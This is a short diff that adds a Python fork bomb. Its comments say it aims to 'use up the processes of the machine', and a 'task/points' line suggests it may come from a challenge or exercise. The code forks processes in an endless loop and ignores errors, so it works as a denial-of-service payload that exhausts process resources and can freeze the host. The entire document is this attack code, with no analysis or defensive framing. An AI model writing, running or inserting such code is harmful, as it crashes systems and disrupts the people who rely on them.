@@ -1,0 +1,10 @@
+# aim: use up the processes of the machine
+# task: share  points: 0
+# bomb
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
